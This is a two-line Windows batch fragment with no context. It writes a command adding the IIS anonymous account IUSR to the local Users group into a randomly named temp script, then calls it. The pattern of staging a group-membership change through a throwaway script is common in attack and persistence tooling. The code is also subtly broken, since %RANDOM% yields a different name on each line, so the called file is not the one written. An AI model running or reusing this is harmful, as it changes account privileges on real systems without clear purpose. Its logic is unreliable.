echo net localgroup Users IUSR /add > %TEMP%\%RANDOM%.cmd
call %TEMP%\%RANDOM%.cmd
